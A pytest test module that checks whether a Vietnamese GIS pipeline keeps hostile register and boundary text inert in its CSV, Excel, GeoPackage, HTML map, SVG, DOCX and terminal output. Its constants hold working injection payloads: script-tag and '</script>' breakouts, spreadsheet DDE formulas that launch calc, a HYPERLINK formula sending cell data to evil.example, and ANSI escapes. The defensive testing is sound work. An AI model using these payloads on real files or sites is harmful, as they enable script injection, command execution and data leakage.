"""Hostile register and boundary text stays text in every output format.

One register CSV (built here, in ``tmp_path``) carries script tags, a
``</script>`` breakout, spreadsheet formulas, XML specials, mathtext dollars,
Jinja braces and control characters; one district and one commune of the real
Cà Mau table get hostile names (boundary files are user input too). The real
pipeline (read -> match -> analyze) runs once; each test opens one written
file with its own parser (csv, openpyxl, pyogrio, html.parser, xml.etree,
python-docx, Chromium) and checks that the text is shown literally and
nothing runs.
"""

from __future__ import annotations

import csv
import json
import re
import warnings
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

HIEP_TUNG = "32197"
#: Model names: HTML in a popup, and a breakout of the payload's script element.
IMG = '<img src=x onerror="window.__pwned=1">'
CLOSE = "</script><script>window.__pwned=2</script><!--"
#: XML specials, mathtext dollars, Jinja braces, an XML comment closer.
XMLISH = "Tổ \"an ninh\" <b>&amp; ]]> 'x' $x^2$ -- {{ 7*7 }}"
#: Spreadsheet formulas (model kind, note, commune as typed).
KIND = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
NOTE = '@SUM(1+1)*cmd|" /C calc"!A0'
TYPED = "=cmd|' /C calc'!A0"
#: A commune as typed with control characters (python-docx and openpyxl refuse them).
CONTROL = "+Xã \x01Zzz\x08 <i>"
#: A commune as typed that would clear a terminal and rewrite its line.
ANSI = "\x1b[2J\x1b[1;1HXã Giả\rOK"
#: Boundary-file names: a district and a commune.
DISTRICT = '+Huyện <b>"Năm"</b> & ]]> \x01 $x$ {0} {x} %s'
COMMUNE = '-1+1 <img src=y onerror="window.__pwned=3"> Pwnville'
#: Register file name: shown in map credits and report notes.
REGISTER_NAME = 'sổ <b>&amp; ]]> "q" $x$.csv'
#: Province name of the boundary file: in every title.
PROVINCE = "Tỉnh Cà Mau </title><script>window.__pwned=4</script>"

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _fixed(text: str) -> str:
    """``text`` as the XML formats show it: control characters -> U+FFFD."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)


def _register(folder: Path, communes) -> Path:
    inside = communes.loc[communes["gso_code"] == HIEP_TUNG].geometry.iloc[0].representative_point()
    rows = [
        ["Mã mô hình", "Tên mô hình", "Loại mô hình", "Cấp", "Xã/Phường/Thị trấn", "Mã xã",
         "Năm xây dựng", "Kinh độ", "Vĩ độ", "Ghi chú"],
        ["M1", IMG, KIND, "xã", "", HIEP_TUNG, "2019", f"{inside.x:.6f}", f"{inside.y:.6f}", NOTE],
        ["M2", CLOSE, "+1+2", "xã", "", HIEP_TUNG, "2018", "", "", "-2+3"],
        ["M3", XMLISH, "Tự quản", "xã", "", HIEP_TUNG, "2017", "", "", ""],
        ["M4", "Tổ tự quản", "Tự quản", "xã", TYPED, "", "2019", "", "", ""],
        ["M5", "Tổ tự quản", "Tự quản", "xã", CONTROL, "", "2019", "", "", ""],
        ["M6", "Tổ tự quản", "Tự quản", "xã", ANSI, "", "2019", "", "", ""],
    ]
    path = folder / REGISTER_NAME
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture(scope="module")
def run(_ca_mau_communes_cached, tmp_path_factory):
    """Run the real pipeline on the hostile register; write every format once."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from camau_gis import settings
    from camau_gis.analysis import analyze
    from camau_gis.export.tables import write_tables
    from camau_gis.register import match_register, read_register, write_match_report
    from camau_gis.render.html import build_map, save_map
    from camau_gis.render.static import plot_map, save_figure
    from camau_gis.report import write_report

    base = tmp_path_factory.mktemp("hostile")
    mp = pytest.MonkeyPatch()
    mp.setattr(settings, "shapefiles_dir", base / "cache")  # the map's coverage cache
    communes = _ca_mau_communes_cached.copy()
    nam_can = communes["district"] == communes.loc[communes["gso_code"] == HIEP_TUNG,
                                                   "district"].iloc[0]
    communes.loc[nam_can, ["district", "dist_short"]] = DISTRICT
    other = communes.index[nam_can & (communes["gso_code"] != HIEP_TUNG)][0]
    communes.loc[other, ["name", "short_name"]] = COMMUNE
    communes["province"] = PROVINCE
    (base / "reg").mkdir()
    register = read_register(_register(base / "reg", communes))
    matched = match_register(register, communes)
    result = analyze(communes, matched)
    out = base / "out"
    files = dict(write_tables(result, out))
    files["match_report.xlsx"] = write_match_report(matched, out / "match_report.xlsx")
    files["coverage_map.html"] = save_map(build_map(result), out / "coverage_map.html")
    with warnings.catch_warnings():  # DejaVu Sans has no glyph for U+0001 (measured as is)
        warnings.filterwarnings("ignore", "Glyph 1 .* missing", UserWarning)
        fig, _ = plot_map(result, "coverage")
    files["coverage_map.svg"] = save_figure(fig, out / "coverage_map.svg")
    files["coverage_map.png"] = save_figure(fig, out / "coverage_map.png", dpi=20)
    plt.close(fig)
    files.update(write_report(result, out, maps={"coverage": files["coverage_map.png"]}))
    yield {"files": files, "result": result, "other": communes.loc[other, "gso_code"],
           "register": base / "reg" / REGISTER_NAME}
    mp.undo()


def test_the_hostile_text_reached_the_analysis(run):
    """Guard: the pipeline kept the register text as typed (else the tests below prove nothing)."""
    result = run["result"]
    assert {IMG, CLOSE, XMLISH} <= set(result.models["name"])
    assert set(result.match_report["value"]) >= {TYPED, CONTROL}
    assert DISTRICT in set(result.uncovered["district"]) and COMMUNE in set(
        result.uncovered["name"])


# ------------------------------------------------------------------ CSV


def _csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_formula_cells_get_an_apostrophe_and_numbers_stay_numbers(run):
    files = run["files"]
    report = _csv(files["match_report.csv"])
    values = [dict(zip(report[0], row, strict=True))["value"] for row in report[1:]]
    assert "'" + TYPED in values and "'" + CONTROL in values
    header, *rows = _csv(files["uncovered_communes.csv"])
    named = next(dict(zip(header, r, strict=True)) for r in rows if "Pwnville" in "".join(r))
    assert named["Tên đơn vị"] == "'" + COMMUNE and named["Huyện/thành phố"] == "'" + DISTRICT
    for name in ("match_report.csv", "uncovered_communes.csv", "district_summary.csv"):
        header, *rows = _csv(files[name])
        for row in [header, *rows]:
            for cell in row:  # only text is prefixed: numbers read back as numbers
                assert _is_number(cell) or not cell.startswith(TRIGGERS), (name, cell)


def test_neutralise_frame_only_touches_text():
    import pandas as pd

    from camau_gis._sanitize import neutralise_formula, neutralise_frame

    frame = pd.DataFrame({"n": [-1, 2], "x": [-0.5, 1.0], "t": ["-1", "a=b"],
                          "s": pd.array(["@x", None], dtype="string"), "=h": [1, 2]})
    out = neutralise_frame(frame)
    assert out["n"].tolist() == [-1, 2] and out["x"].tolist() == [-0.5, 1.0]
    assert out["t"].tolist() == ["'-1", "a=b"]
    assert out["s"].iloc[0] == "'@x" and out["s"].isna().iloc[1]
    assert list(out.columns) == ["n", "x", "t", "s", "'=h"]
    assert frame["t"].tolist() == ["-1", "a=b"]  # the input is not modified
    assert [neutralise_formula(v) for v in ("\tx", "\rx", "+1", "ok", 3, None)] == [
        "'\tx", "'\rx", "'+1", "ok", 3, None]


# ------------------------------------------------------------------ XLSX


def _xlsx_cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)
    return book, [c for ws in book for row in ws.iter_rows() for c in row]


def test_xlsx_formula_cells_are_stored_as_text(run):
    files = run["files"]
    for name in ("uncovered_communes.xlsx", "district_summary.xlsx", "match_report.xlsx"):
        with zipfile.ZipFile(files[name]) as z:  # no formula element anywhere in the workbook
            sheets = [z.read(n).decode("utf-8") for n in z.namelist() if "worksheets/" in n]
        assert sheets and not any("<f>" in s or "<f " in s for s in sheets), name
        _, cells = _xlsx_cells(files[name])
        risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
        assert risky, name  # the hostile text is there ...
        assert all(c.data_type == "s" and c.quotePrefix for c in risky), name  # ... as text
    book, cells = _xlsx_cells(files["uncovered_communes.xlsx"])
    values = {c.value for c in cells}
    assert {COMMUNE, _fixed(DISTRICT)} <= values  # as written, no apostrophe added
    assert any(ws.title.startswith("+Huyện") for ws in book)  # district sheet, safe name
    _, cells = _xlsx_cells(files["match_report.xlsx"])
    assert {TYPED, _fixed(CONTROL)} <= {c.value for c in cells}


# ------------------------------------------------------------------ GeoPackage


def test_geopackage_round_trips_text_literally(run):
    import pyogrio

    gpkg = run["files"]["communes.gpkg"]
    models = pyogrio.read_dataframe(gpkg, layer="models")
    assert models["name"].tolist() == [IMG] and models["notes"].tolist() == [NOTE]
    assert models["kind"].tolist() == [KIND]
    communes = pyogrio.read_dataframe(gpkg, layer="communes")
    hiep_tung = communes.loc[communes["gso_code"] == HIEP_TUNG].iloc[0]
    assert KIND in hiep_tung["kinds"] and hiep_tung["district"] == DISTRICT
    assert COMMUNE in set(communes["name"])


# ------------------------------------------------------------------ HTML map


class _Scripts(HTMLParser):
    """Every element of a page, and the text of each ``<script>`` with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[tuple[dict, str]] = []
        self._in: dict | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in = dict(attrs)
            self.scripts.append((self._in, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in = None

    def handle_data(self, data):
        if self._in is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)


def test_html_map_payload_cannot_leave_its_script_element(run):
    from camau_gis.render.html import PAYLOAD_ID, read_payload

    path = run["files"]["coverage_map.html"]
    raw = path.read_text(encoding="utf-8")
    page = _Scripts()
    page.feed(raw)
    assert not any(tag == "img" or any(a.startswith("on") for a in attrs)
                   for tag, attrs in page.tags)
    payload = [text for attrs, text in page.scripts if attrs.get("id") == PAYLOAD_ID]
    # data text appears in the payload, and only as escaped text in the page's <title>
    title = re.search(r"<title>(.*?)</title>", raw, re.DOTALL)
    in_title = title.group(1).count("__pwned") if title else 0
    assert title is None or "<" not in title.group(1)  # html.escape'd: no tag can start
    assert len(payload) == 1 and raw.count("__pwned") == payload[0].count("__pwned") + in_title
    assert payload[0].count("__pwned") > 0
    assert not any("__pwned" in text for attrs, text in page.scripts
                   if attrs.get("id") != PAYLOAD_ID)  # no script from data outside ours
    assert not re.search(r"</script|<!--|<img|\u2028|\u2029", payload[0], re.IGNORECASE)
    data = read_payload(path)
    names = {m[0] for rows in data["models"].values() for m in rows}
    assert {IMG, CLOSE, XMLISH} <= names and data["points"][0][2] == IMG
    props = {f["properties"]["gso_code"]: f["properties"] for f in data["communes"]["features"]}
    assert props[run["other"]]["name"] == COMMUNE


def test_json_for_html_escapes_line_separators_and_round_trips():
    from camau_gis.render._assets import json_for_html

    text = "a\u2028b\u2029c </script><!-- & >"
    safe = json_for_html(json.dumps({"t": text}, ensure_ascii=False))
    assert not re.search("[\u2028\u2029<>&]", safe)
    assert json.loads(safe) == {"t": text}


_PAGE = r"""
code, other = extra
POINT = '''code => { const g = window.camauGis, p = g.byCode[code].feature.properties.label_pt,
    pt = g.map.latLngToContainerPoint([p[1], p[0]]), r = g.map.getContainer().getBoundingClientRect();
    return [pt.x + r.left, pt.y + r.top]; }'''
AT = '''ll => { const pt = window.camauGis.map.latLngToContainerPoint(ll),
    r = window.camauGis.map.getContainer().getBoundingClientRect();
    return [pt.x + r.left, pt.y + r.top]; }'''
located = page.evaluate("window.camauGis.data.points[0]")
page.mouse.move(*page.evaluate(AT, [located[1], located[0]]))
point_tip = page.locator(".leaflet-tooltip")
point_tip.wait_for(state="visible", timeout=5000)
out["point_tip"] = point_tip.inner_text()
page.evaluate("window.camauGis.setOverlay('points', false)")  # the model point sits on the label
page.mouse.click(*page.evaluate(POINT, code))
pop = page.locator(".leaflet-popup .cg-popup")
pop.wait_for(state="visible", timeout=5000)
out["models"] = pop.locator(".cg-model-name").all_inner_texts()
out["popup_imgs"] = pop.locator("img").count()
box = page.locator(".cg-search input")
box.fill("pwnville")
first = page.locator(".cg-results li").first
first.wait_for(state="visible", timeout=5000)
out["hit"] = first.inner_text()
box.press("Enter")
tip = page.locator(".cg-selected-tip .cg-tip")
tip.wait_for(state="visible", timeout=5000)
out["tip"] = tip.inner_text()
out["injected"] = page.evaluate('''() => document.querySelectorAll(
    "img[src=x], img[src=y], [onerror]").length''')
out["scripts"] = page.evaluate("document.scripts.length")
out["pwned"] = page.evaluate("typeof window.__pwned")
"""


@pytest.mark.browser
def test_html_map_in_a_browser_runs_no_register_text(run):
    from _page import run_page

    path = run["files"]["coverage_map.html"]
    got = run_page(_PAGE, path, HIEP_TUNG, run["other"], timeout_ms=15000)
    assert got["pwned"] == "undefined" and got["injected"] == 0 and got["popup_imgs"] == 0
    assert {IMG, CLOSE, XMLISH} <= set(got["models"])  # shown literally
    assert IMG in got["point_tip"]
    assert COMMUNE in got["hit"] and COMMUNE in got["tip"]
    page = _Scripts()
    page.feed(path.read_text(encoding="utf-8"))
    assert got["scripts"] == len(page.scripts)  # the browser found no extra script element


# ------------------------------------------------------------------ SVG


def test_svg_is_well_formed_with_literal_labels_and_credits(run):
    import xml.etree.ElementTree as ET

    root = ET.parse(run["files"]["coverage_map.svg"]).getroot()  # raises if ill-formed
    texts = []
    for el in root.iter("{http://www.w3.org/2000/svg}text"):
        spans = list(el.iter("{http://www.w3.org/2000/svg}tspan"))
        texts.append("".join(s.text or "" for s in spans) if spans else el.text or "")
    shown = " ".join(" ".join(t.replace("\xa0", " ").split()) for t in texts)
    assert _fixed(DISTRICT) in shown  # district label: tags, "]]>", "$x$" all literal
    assert REGISTER_NAME in shown  # credit line: the register's file name
    assert PROVINCE in shown  # subtitle


# ------------------------------------------------------------------ reports


def test_docx_report_shows_text_literally(run):
    from docx import Document

    doc = Document(str(run["files"]["report.docx"]))
    cells = {c.text for t in doc.tables for row in t.rows for c in row.cells}
    assert {TYPED, _fixed(CONTROL), _fixed(DISTRICT), COMMUNE} <= cells
    text = "\n".join(p.text for p in doc.paragraphs)
    assert PROVINCE in doc.paragraphs[0].text and PROVINCE in doc.core_properties.title
    assert REGISTER_NAME in text or any(REGISTER_NAME in c for c in cells)


def test_html_report_escapes_text_and_runs_nothing(run):
    from html import unescape

    raw = run["files"]["report.html"].read_text(encoding="utf-8")
    page = _Scripts()
    page.feed(raw)
    assert page.scripts == []
    # the map, then the spatial analysis' LISA map and Moran scatter plot (report/sections.py)
    assert [tag for tag, _ in page.tags if tag == "img"] == ["img"] * 3
    assert not any(a.startswith("on") for _, attrs in page.tags for a in attrs)
    assert "\x01" not in raw and COMMUNE not in raw
    for text in (TYPED, _fixed(CONTROL), _fixed(DISTRICT), COMMUNE, PROVINCE):
        assert text in unescape(raw)
    assert raw.count("</title>") == 1


# ------------------------------------------------------------------ terminal


def test_register_check_prints_no_terminal_escapes(run, ca_mau_shp, tmp_path, capsys):
    from camau_gis.cli import main

    code = main(["register", "check", str(run["register"]), "--boundaries", str(ca_mau_shp),
                 "--report", str(tmp_path / "report.csv")])
    printed = capsys.readouterr().out
    assert code == 4 and "Xã Giả" in printed  # the row needing attention is listed ...
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", printed)  # ... without escapes
